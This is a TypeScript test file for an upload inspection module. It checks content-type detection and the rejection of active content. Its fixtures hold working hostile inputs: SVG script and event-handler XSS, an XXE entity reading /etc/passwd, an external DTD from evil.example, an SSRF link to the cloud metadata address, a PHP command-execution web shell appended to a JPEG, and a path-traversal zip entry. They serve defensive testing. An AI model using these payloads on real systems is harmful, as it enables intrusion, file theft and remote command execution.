import { join } from 'node:path';
import { Readable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import { describe, expect, it } from 'vitest';
import { inspectFile, type ContentPolicy } from '../../src/upload/inspect.js';
import { FileSpool, type SpooledFile } from '../../src/upload/spool.js';
import { tempDir } from '../helpers/gateway.js';
import { GIF, JPEG, pdf, png } from '../helpers/files.js';
import { makeZip } from '../helpers/zip.js';

const dir = tempDir('rampart-inspect-');
let n = 0;
async function spool(data: Buffer | string, chunkSize = 7): Promise<SpooledFile> {
  const buf = Buffer.from(data);
  const s = new FileSpool(join(dir, `f${n++}`), 10 * 1024 * 1024);
  // Small chunks: markers split across chunk boundaries must still be found.
  const chunks = Array.from({ length: Math.ceil(buf.length / chunkSize) }, (_, i) => buf.subarray(i * chunkSize, (i + 1) * chunkSize));
  await pipeline(Readable.from(chunks), s);
  return s.done;
}

const IMAGES: ContentPolicy = {
  allow: ['image/png', 'image/jpeg', 'image/gif', 'image/webp'],
  refuseMismatch: true,
  archives: { maxEntries: 100, maxUncompressedBytes: 1e7, maxRatio: 100, maxDepth: 1, allowEncrypted: false },
};

describe('inspectFile: types by content', () => {
  it('accepts real images whose declared type and extension agree', async () => {
    await expect(inspectFile(await spool(png()), 'image/png', 'png', IMAGES)).resolves.toMatchObject({ detected: { mime: 'image/png' } });
    await expect(inspectFile(await spool(JPEG), 'image/jpeg', 'jpeg', IMAGES)).resolves.toMatchObject({ detected: { mime: 'image/jpeg' } });
    await expect(inspectFile(await spool(JPEG), 'image/jpg', 'jpg', IMAGES)).resolves.toMatchObject({ detected: { mime: 'image/jpeg' } });
    await expect(inspectFile(await spool(GIF), 'application/octet-stream', '', IMAGES)).resolves.toMatchObject({ detected: { mime: 'image/gif' } });
  });

  it('refuses content of a type not allowed, whatever the client claims', async () => {
    await expect(inspectFile(await spool(pdf()), 'image/png', 'png', IMAGES)).rejects.toMatchObject({ code: 'RAMPART_UPLOAD_TYPE_NOT_ALLOWED' });
    await expect(inspectFile(await spool('just text'), 'image/jpeg', 'jpg', IMAGES)).rejects.toMatchObject({ code: 'RAMPART_UPLOAD_TYPE_NOT_ALLOWED' });
  });

  it('refuses a declared type or extension that contradicts the content', async () => {
    await expect(inspectFile(await spool(png()), 'image/jpeg', 'png', IMAGES)).rejects.toMatchObject({ code: 'RAMPART_UPLOAD_TYPE_MISMATCH' });
    await expect(inspectFile(await spool(png()), 'image/png', 'jpg', IMAGES)).rejects.toMatchObject({ code: 'RAMPART_UPLOAD_TYPE_MISMATCH' });
    await expect(inspectFile(await spool(png()), 'text/plain', 'png', IMAGES)).rejects.toMatchObject({ code: 'RAMPART_UPLOAD_TYPE_MISMATCH' });
    // Unknown extensions make no claim.
    await expect(inspectFile(await spool(png()), 'image/png', 'upload', IMAGES)).resolves.toBeDefined();
  });
});

describe('inspectFile: active content', () => {
  const SVG_OK = '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10" fill="red"/></svg>';
  const svgPolicy = { ...IMAGES, allow: [...IMAGES.allow, 'image/svg+xml'] };

  it('refuses SVG where only raster images are expected', async () => {
    await expect(inspectFile(await spool(SVG_OK), 'image/png', 'png', IMAGES)).rejects.toMatchObject({ code: 'RAMPART_UPLOAD_TYPE_NOT_ALLOWED' });
  });

  it('accepts a plain SVG where SVG is allowed', async () => {
    await expect(inspectFile(await spool(SVG_OK), 'image/svg+xml', 'svg', svgPolicy)).resolves.toMatchObject({ detected: { mime: 'image/svg+xml' } });
  });

  it.each([
    ['script tag', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
    ['event handler', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
    ['javascript url', '<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:alert(1)"><text>x</text></a></svg>'],
    ['foreignObject', '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe src="x"/></foreignObject></svg>'],
    ['XXE entity', '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>'],
    ['external DTD', '<?xml version="1.0"?><!DOCTYPE svg SYSTEM "http://evil.example/x.dtd"><svg xmlns="http://www.w3.org/2000/svg"/>'],
    ['external href', '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="http://169.254.169.254/latest"/></svg>'],
  ])('refuses SVG with %s', async (_what, svg) => {
    await expect(inspectFile(await spool(svg), 'image/svg+xml', 'svg', svgPolicy)).rejects.toMatchObject({ code: 'RAMPART_UPLOAD_ACTIVE_CONTENT' });
  });

  it('refuses HTML with script where HTML is allowed', async () => {
    const policy = { ...IMAGES, allow: ['text/html'] };
    await expect(inspectFile(await spool('<!doctype html><html><body><script>x()</script></body></html>'), 'text/html', 'html', policy)).rejects.toMatchObject({ code: 'RAMPART_UPLOAD_ACTIVE_CONTENT' });
    await expect(inspectFile(await spool('<!doctype html><html><body><p>hi</p></body></html>'), 'text/html', 'html', policy)).resolves.toBeDefined();
  });

  it('refuses image polyglots: script, PHP or HTML inside, or a zip appended', async () => {
    await expect(inspectFile(await spool(Buffer.concat([GIF, Buffer.from('<script>alert(1)</script>')])), 'image/gif', 'gif', IMAGES)).rejects.toMatchObject({ code: 'RAMPART_UPLOAD_ACTIVE_CONTENT' });
    await expect(inspectFile(await spool(Buffer.concat([JPEG, Buffer.from('<?php system($_GET["c"]); ?>')])), 'image/jpeg', 'jpg', IMAGES)).rejects.toMatchObject({ code: 'RAMPART_UPLOAD_ACTIVE_CONTENT' });
    await expect(inspectFile(await spool(Buffer.concat([png(), Buffer.from('<html><body>x</body></html>')])), 'image/png', 'png', IMAGES)).rejects.toMatchObject({ code: 'RAMPART_UPLOAD_ACTIVE_CONTENT' });
    const zip = makeZip([{ name: 'payload.jar', data: Buffer.from('x') }]);
    await expect(inspectFile(await spool(Buffer.concat([JPEG, zip]), 4096), 'image/jpeg', 'jpg', IMAGES)).rejects.toMatchObject({ code: 'RAMPART_UPLOAD_ACTIVE_CONTENT' });
  });

  it('judges markup markers past the first 64 KiB of a binary as chance, but not PHP', async () => {
    const filler = Buffer.alloc(100 * 1024, 0x41);
    const late = (marker: string): Buffer => Buffer.concat([png(), filler, Buffer.from(marker)]);
    await expect(inspectFile(await spool(late('<svg >'), 4096), 'image/png', 'png', IMAGES)).resolves.toBeDefined();
    await expect(inspectFile(await spool(late('<?php echo 1; ?>'), 4096), 'image/png', 'png', IMAGES)).rejects.toMatchObject({ code: 'RAMPART_UPLOAD_ACTIVE_CONTENT' });
  });

  it('inspects archives when they are allowed', async () => {
    const policy = { ...IMAGES, allow: ['application/zip'] };
    await expect(inspectFile(await spool(makeZip([{ name: 'a.txt', data: Buffer.from('ok') }])), 'application/zip', 'zip', policy)).resolves.toMatchObject({ archive: { entries: 1 } });
    await expect(inspectFile(await spool(makeZip([{ name: '../../x', data: Buffer.from('ok') }])), 'application/zip', 'zip', policy)).rejects.toMatchObject({ code: 'RAMPART_UPLOAD_ARCHIVE_REJECTED' });
  });
});
